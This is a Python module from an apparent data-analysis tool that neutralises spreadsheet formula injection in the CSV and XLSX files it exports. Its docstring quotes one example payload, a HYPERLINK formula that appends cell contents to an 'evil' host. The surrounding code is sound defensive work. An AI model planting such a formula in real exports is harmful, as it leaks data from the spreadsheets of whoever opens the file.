"""Spreadsheet-safe exports (OWASP "CSV injection").

A leaf module (no insight imports at module level), so every layer - topics, extract,
the CLI and the report - writes its CSV/XLSX files through it; ``insight.report.safe``
re-exports it.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula: a respondent id or a quote such as
``=HYPERLINK("http://evil/"&A1,"click")`` in ``segments.csv`` would run when a researcher
opens the file. Every CSV/XLSX written for people goes through :func:`write_csv_safe` /
:func:`write_excel_safe`, which prefix such text cells with a single quote ``'`` as OWASP
recommends. Numbers stay numbers: numeric columns are untouched, and a text cell that is
just a signed decimal (``-3.5``, ``+2``) is kept as it is.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

#: Leading characters that make a spreadsheet evaluate a cell.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# A plain signed decimal ("-3", "-0.25", "+1.5e3") is read as a number, never as a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_cell(value: Any) -> Any:
    """``value`` made inert for a spreadsheet: a text starting with ``= + - @``, tab or CR
    gets a leading ``'``; numbers, missing values and other text are returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_PREFIXES and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell (and every column name) neutralised; numeric
    columns are left numeric."""
    import pandas as pd

    out = df.copy()
    for col in out.columns:
        s = out[col]
        if pd.api.types.is_numeric_dtype(s) or pd.api.types.is_bool_dtype(s):
            continue
        if pd.api.types.is_datetime64_any_dtype(s):
            continue
        out[col] = s.map(neutralise_cell)
    out.columns = [neutralise_cell(str(c)) for c in out.columns]
    return out


def write_csv_safe(df: pd.DataFrame, path: Path | str, **kwargs: Any) -> Path:
    """Write ``df`` as CSV (UTF-8, no index unless asked) with formula cells neutralised.

    Every text cell is quoted (``csv.QUOTE_NONNUMERIC``), so a carriage return or separator
    inside a quote can never start a new cell or row in a spreadsheet; numbers stay bare."""
    kwargs.setdefault("index", False)
    kwargs.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    path = Path(path)
    neutralise_frame(df).to_csv(path, **kwargs)
    return path


def write_readable_csv(df: pd.DataFrame, path: Path | str, **kwargs: Any) -> Path:
    """A CSV meant for people: personal data masked in its text columns
    (:func:`insight.pii.redact_frame`, off under ``--no-redact``) and formula cells
    neutralised."""
    from insight.pii import redact_frame

    return write_csv_safe(redact_frame(df), path, **kwargs)


def write_excel_safe(df: pd.DataFrame, path: Path | str, **kwargs: Any) -> Path:
    """Write ``df`` as XLSX with formula cells neutralised (written as text, never formulas)."""
    kwargs.setdefault("index", False)
    path = Path(path)
    neutralise_frame(df).to_excel(path, **kwargs)
    return path


__all__ = [
    "FORMULA_PREFIXES",
    "neutralise_cell",
    "neutralise_frame",
    "write_csv_safe",
    "write_excel_safe",
    "write_readable_csv",
]
